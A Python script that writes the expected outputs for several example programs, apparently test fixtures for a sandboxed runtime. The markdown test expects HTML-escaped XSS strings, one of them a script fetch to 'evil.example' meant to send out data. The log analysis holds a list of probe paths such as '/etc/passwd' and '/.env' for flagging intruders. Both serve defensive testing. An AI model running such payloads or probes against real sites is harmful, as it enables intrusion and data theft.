"""Writes each example's expected.json from its input alone, without running the example.

Other language, other libraries: csv, zlib and heapq of Python 3.11, jsonschema 4.26. Run it only
when an input changes: python3 examples/make/expected.py
"""

import collections
import csv
import datetime
import heapq
import json
import math
import pathlib
import re
import statistics
import zlib

import jsonschema

HERE = pathlib.Path(__file__).resolve().parent.parent


def text_of(name):
    return (HERE / name).read_text(encoding="utf-8")


def write(example, expected):
    text = json.dumps(expected, indent=2, ensure_ascii=False)
    (HERE / example / "expected.json").write_text(text + "\n", encoding="utf-8")


def csv_report():
    lines = text_of("csv-report/orders.csv").split("\n")
    orders, rejected, seen = [], [], set()
    for number, line in enumerate(lines[1:], 2):
        if not line:
            continue
        row = next(csv.reader([line]))
        no = lambda reason: rejected.append({"line": number, "id": row[0], "reason": reason})
        if len(row) != 8:
            no(f"expected 8 fields, found {len(row)}")
            continue
        key, date, region, customer, product, quantity, price, discount = row
        try:
            datetime.date.fromisoformat(date)
            real = True
        except ValueError:
            real = False
        if key in seen:
            no("order_id was seen before")
        elif not real:
            no(f"date does not exist: {date}")
        elif region not in ("north", "south", "east", "west"):
            no(f"unknown region: {region}")
        elif not customer:
            no("customer is empty")
        elif not quantity.isdigit() or int(quantity) < 1:
            no(f"quantity is not a positive whole number: {quantity}")
        elif not re.fullmatch(r"\d+\.\d\d", price):
            no(f"unit_price is not an amount: {price}")
        elif int(discount) > 100:
            no(f"discount_percent is not 0 to 100: {discount}")
        else:
            seen.add(key)
            full = int(quantity) * int(price.replace(".", ""))
            cents = (full * (100 - int(discount)) + 50) // 100
            orders.append((key, date[:7], region, customer, product, int(quantity), cents))

    def totals(key):
        groups = collections.defaultdict(list)
        for order in orders:
            groups[key(order)].append(order[6])
        return {k: {"orders": len(v), "total_cents": sum(v)} for k, v in sorted(groups.items())}

    customers = sorted(totals(lambda o: o[3]).items(), key=lambda item: (-item[1]["total_cents"], item[0]))
    typical = {p: statistics.median([o[6] for o in orders if o[4] == p]) for p in {o[4] for o in orders}}
    result = {
        "rows": len(orders) + len(rejected),
        "orders": len(orders),
        "total_cents": sum(o[6] for o in orders),
        "by_region": totals(lambda o: o[2]),
        "by_month": totals(lambda o: o[1]),
        "by_region_and_month": totals(lambda o: f"{o[2]} {o[1]}"),
        "top_customers": [{"customer": name, **of} for name, of in customers[:5]],
        "outliers": [
            {"id": o[0], "product": o[4], "quantity": o[5], "total_cents": o[6], "typical_cents": typical[o[4]]}
            for o in sorted(orders)
            if o[6] > 10 * typical[o[4]]
        ],
        "rejected": rejected,
    }
    write("csv-report", {"termination": "completed", "result": result})


def log_analysis():
    requests, unread = [], []
    for number, line in enumerate(text_of("log-analysis/access.log").split("\n"), 1):
        parts = line.split('"')
        ask = parts[1].split(" ") if len(parts) > 1 else []
        numbers = parts[2].split() if len(parts) > 2 else []
        if len(ask) == 3 and len(numbers) == 3 and all(n.replace(".", "").isdigit() for n in numbers):
            stamp = datetime.datetime.strptime(line.split("[")[1].split("]")[0], "%d/%b/%Y:%H:%M:%S %z")
            ms = round(float(numbers[2]) * 1000)
            requests.append((line.split(" ")[0], stamp, ask[0], ask[1], int(numbers[0]), ms))
        elif line:
            unread.append({"line": number, "text": line[:60]})
    route = lambda r: r[2] + " " + "/".join(":id" if p.isdigit() else p for p in r[3].split("?")[0].split("/"))
    groups = collections.defaultdict(list)
    for request in requests:
        groups[route(request)].append(request[5])
    rank = lambda values, percent: sorted(values)[math.ceil(percent * len(values) / 100) - 1]
    minutes = collections.defaultdict(list)
    clients = collections.defaultdict(list)
    for request in requests:
        minutes[request[1].replace(second=0)].append(request)
        clients[request[0]].append(request)
    bursts = []
    for minute, of in sorted(minutes.items()):
        errors = sum(r[4] >= 500 for r in of)
        if errors < 5 or errors * 5 < len(of):
            continue
        if bursts and minute - bursts[-1][1] == datetime.timedelta(minutes=1):
            bursts[-1] = (bursts[-1][0], minute, bursts[-1][2] + 1, bursts[-1][3] + errors)
        else:
            bursts.append((minute, minute, 1, errors))
    suspicious = []
    for client, of in sorted(clients.items()):
        refused = sum(r[4] in (401, 403) for r in of)
        names = ("/.env", "/.git/", "/wp-", "/phpmyadmin", "/admin.php", "/etc/passwd")
        probed = len({r[3] for r in of if r[3].startswith(names)})
        busiest = max(collections.Counter(r[1].replace(second=0) for r in of).values())
        reasons = [f"{refused} refused logins"] if refused >= 20 else []
        reasons += [f"looked for {probed} files that only an intruder wants"] if probed >= 4 else []
        reasons += [f"{busiest} requests in one minute"] if busiest > 100 else []
        if reasons:
            suspicious.append({"client": client, "requests": len(of), "reasons": reasons})
    result = {
        "requests": len(requests),
        "status": dict(sorted(collections.Counter(f"{r[4] // 100}xx" for r in requests).items())),
        "routes": [
            {"route": name, "requests": len(of), "p50_ms": rank(of, 50), "p95_ms": rank(of, 95), "p99_ms": rank(of, 99)}
            for name, of in sorted(groups.items())
            if len(of) >= 50
        ],
        "bursts": [{"from": b[0].strftime("%d/%b/%Y:%H:%M"), "minutes": b[2], "errors": b[3]} for b in bursts],
        "suspicious": suspicious,
        "unread": unread,
    }
    write("log-analysis", {"termination": "completed", "result": result})


def schema_validation():
    data = json.loads(text_of("schema-validation/products.json"))
    validator = jsonschema.Draft202012Validator(data["schema"])
    pointer = lambda path: "".join("/" + str(p).replace("~", "~0").replace("/", "~1") for p in path)
    invalid = []
    for index, document in enumerate(data["documents"]):
        found = set()
        for error in validator.iter_errors(document):
            path = list(error.absolute_path)
            if error.validator == "additionalProperties":
                known = error.schema["properties"]
                found |= {(pointer([*path, name]), error.validator) for name in error.instance if name not in known}
            elif error.validator is None:
                # A false schema: the library names the object, the place is the member in it.
                member = next(name for name, value in document.items() if value is error.instance)
                found.add((pointer([*path, member]), "false"))
            else:
                found.add((pointer(path), error.validator))
        if found:
            invalid.append({"index": index, "faults": [{"at": at, "keyword": k} for at, k in sorted(found)]})
    count = len(data["documents"])
    result = {"documents": count, "valid": count - len(invalid), "invalid": invalid}
    write("schema-validation", {"termination": "completed", "result": result})


def markdown_page():
    source = text_of("markdown-page/article.md")
    prose = re.sub(r"```.*?```", "", source, flags=re.S)
    count = lambda pattern: len(re.findall(pattern, prose, flags=re.M))
    rows = count(r"^\|") - 2
    links = len(re.findall(r"\]\((?:https?://|mailto:)", prose))
    counts = {
        "<h1 ": count(r"^# "),
        "<h2 ": count(r"^## "),
        "<h3 ": count(r"^### "),
        "<li>": count(r"^(- |\d+\. )"),
        "<td>": 3 * rows,
        "<th>": 3,
        "<pre>": source.count("```") // 2,
        "<hr>": count(r"^---$"),
        "<a href=": links,
        "<blockquote>": count(r"(?:^>.*\n)+"),
        "<script": 0,
        "<img": 0,
        "<iframe": 0,
        'href="javascript': 0,
    }
    title = re.search(r"^# (.*)$", source, flags=re.M)[1].replace('"', "&quot;")
    includes = [f"<title>{title}</title>", "&lt;script&gt;fetch(&quot;https://evil.example/?c=", "&lt;img src=x onerror=alert(1)&gt;"]
    write("markdown-page", {"termination": "completed", "http": {"status": 200}, "text": {"includes": includes, "counts": counts}})


def route_planner():
    network = json.loads(text_of("route-planner/graph/network.json"))
    trips = json.loads(text_of("route-planner/trips.json"))
    towns = {town["name"] for town in network["towns"]}
    roads = collections.defaultdict(list)
    for r in network["roads"]:
        for a, b in ((r["from"], r["to"]), (r["to"], r["from"])):
            roads[a].append((b, r["length_m"], r["length_m"] * 3.6 / r["kmh"]))
    planned = []
    for trip in trips:
        missing = [name for name in (trip["from"], trip["to"]) if name not in towns]
        if missing:
            planned.append({"id": trip["id"], "problem": f"no such town: {', '.join(missing)}"})
            continue
        # Dijkstra without any guess; the example's A* has to find the same.
        queue, settled = [(0, 0, 0, [trip["from"]])], set()
        answer = {"id": trip["id"], "problem": "no road leads there"}
        while queue:
            cost, metres, seconds, via = heapq.heappop(queue)
            if via[-1] == trip["to"]:
                minutes = math.floor(seconds / 60 + 0.5)
                answer = {"id": trip["id"], "by": trip["by"], "via": via, "length_m": metres, "minutes": minutes}
                break
            if via[-1] in settled:
                continue
            settled.add(via[-1])
            for town, length, time in roads[via[-1]]:
                step = length if trip["by"] == "distance" else time
                heapq.heappush(queue, (cost + step, metres + length, seconds + time, [*via, town]))
        planned.append(answer)
    total = sum(trip.get("length_m", 0) for trip in planned)
    write("route-planner", {"termination": "completed", "result": {"towns": len(towns), "trips": planned, "total_m": total}})


def wasm_checksum():
    data = text_of("wasm-checksum/manifest.txt").encode()
    crc = lambda piece: f"{zlib.crc32(piece):08x}"
    lines = [crc(line) for line in data.split(b"\n") if line]
    result = {"bytes": len(data), "self_test": crc(b"123456789"), "crc32": crc(data), "lines": lines}
    write("wasm-checksum", {"termination": "completed", "result": result})


csv_report()
log_analysis()
schema_validation()
markdown_page()
route_planner()
wasm_checksum()
# These two are promises of the jail, not figures: fifteen attempts, six of them calls that were blocked.
write("break-out", {"termination": "completed", "result": {"tried": 15, "escaped": []}, "blocked": 6})
write("runaway", {"termination": "cpu_exceeded"})
